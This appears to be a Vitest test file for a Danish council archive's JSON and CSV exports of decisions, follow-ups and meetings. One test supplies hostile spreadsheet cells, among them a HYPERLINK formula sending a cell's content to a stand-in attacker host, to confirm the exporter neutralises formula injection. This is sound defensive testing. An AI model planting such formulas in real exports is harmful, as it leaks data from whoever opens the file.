import { describe, expect, it } from 'vitest';
import { tableCsv, tableJson, tables, csvHeader, dataFiles } from '../../../src/lib/exports/tables.ts';
import { smallIndex, smallArchive, indexWith, SITE } from '../../fixtures/archive.ts';
import { parseCsv } from '../../support/csv.ts';
import { openInSpreadsheet } from '../../support/spreadsheet.ts';

describe('the data files', () => {
  const index = smallIndex();

  it('are six: JSON and CSV of decisions, follow-ups and meetings', () => {
    expect([...dataFiles(index, SITE).keys()].sort()).toEqual([
      'beslutninger.csv', 'beslutninger.json', 'moeder.csv', 'moeder.json', 'opfoelgning.csv', 'opfoelgning.json',
    ]);
  });

  it('document every column', () => {
    for (const t of tables) {
      for (const c of t.columns) expect(c.description.length, `${t.name}.${c.key}`).toBeGreaterThan(10);
      expect(new Set(t.columns.map((c) => c.key)).size).toBe(t.columns.length);
      expect(new Set(csvHeader(t.columns)).size).toBe(csvHeader(t.columns).length);
    }
  });

  it('write each table as CSV that parses back to the same rows as the JSON, dates the Danish and the ISO way', () => {
    for (const name of ['beslutninger', 'opfoelgning', 'moeder'] as const) {
      const csv = parseCsv(tableCsv(name, index, SITE));
      const json = JSON.parse(tableJson(name, index, SITE));
      expect(csv.header).toEqual(csvHeader(tables.find((t) => t.name === name)!.columns));
      expect(csv.rows.map((r) => r.id)).toEqual(json.items.map((i: { id: string }) => i.id));
      expect(json.count).toBe(json.items.length);
    }
    const d1 = parseCsv(tableCsv('beslutninger', index, SITE)).rows.find((r) => r.id === 'd1')!;
    expect(d1).toMatchObject({ dato: '10-01-2025', dato_iso: '2025-01-10', organ: 'Rådet', prioritering: '1: p/B, 2: p/A', url: 'https://arkiv.example.dk/beslutninger/d1/' });
    expect(parseCsv(tableCsv('moeder', index, SITE)).rows.find((r) => r.id === 'm3')).toMatchObject({ dato: '', uge: '2026-W05' });
  });

  it('keep multi-paragraph texts with semicolons and quotes intact through CSV', () => {
    const data = smallArchive();
    const d = data.decisions[0];
    const tricky = { ...d, body: 'Første afsnit; med "citat".\n\nAndet afsnit, med komma.', data: { ...d.data, title: 'Titel; "med" alt' } };
    const idx = indexWith({}, { ...data, decisions: data.decisions.map((x) => (x === d ? tricky : x)) });
    const row = parseCsv(tableCsv('beslutninger', idx, SITE)).rows.find((r) => r.id === d.id)!;
    expect(row.titel).toBe('Titel; "med" alt');
    expect(row.tekst).toBe('Første afsnit; med "citat".\n\nAndet afsnit, med komma.');
  });

  it('drop references to meetings that are not in the index (a draft), never print them', () => {
    const data = smallArchive();
    const f = data.followUps[0];
    const toDraft = { ...f, data: { ...f.data, dueMeeting: '2027-01-05-kladde' } };
    const idx = indexWith({}, { ...data, followUps: data.followUps.map((x) => (x === f ? toDraft : x)) });
    expect(tableCsv('opfoelgning', idx, SITE)).not.toContain('2027-01-05-kladde');
    expect(tableJson('opfoelgning', idx, SITE)).not.toContain('2027-01-05-kladde');
  });

  it('neutralise cells a spreadsheet would run as a formula (OWASP): a quote in front, the cell quoted', () => {
    const hostile = ['=HYPERLINK("https://angriber.example/?x="&A1;"Klik")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+2', '\r=1+2', '=1+2'];
    const data = smallArchive();
    const decisions = hostile.map((title, i) => ({ ...data.decisions[0], id: `2025-11-18-9${'abcdefg'[i]}`, body: 'Tekst.', data: { ...data.decisions[0].data, title } }));
    const idx = indexWith({}, { ...data, decisions });
    const csv = tableCsv('beslutninger', idx, SITE);
    const sheet = openInSpreadsheet(csv);
    const titleColumn = sheet[0].findIndex((c) => c.value === 'titel');
    const titles = sheet.slice(1).map((row) => row[titleColumn]);
    expect(titles.map((c) => c.formula)).toEqual(hostile.map(() => undefined));
    expect(titles.map((c) => c.value)).toEqual(hostile.map((t) => `'${t}`));
    expect(parseCsv(csv).rows.map((r) => r.titel)).toEqual(hostile.map((t) => `'${t}`));
    for (const t of hostile) expect(csv).toContain(`"'${t.replace(/"/g, '""')}"`);
  });

  it('are checked by a reader that does take a bare "=" cell for a formula', () => {
    expect(openInSpreadsheet('\uFEFFa;b\r\n=1+2;x\r\n')[1][0].formula).toBe('1+2');
  });
});
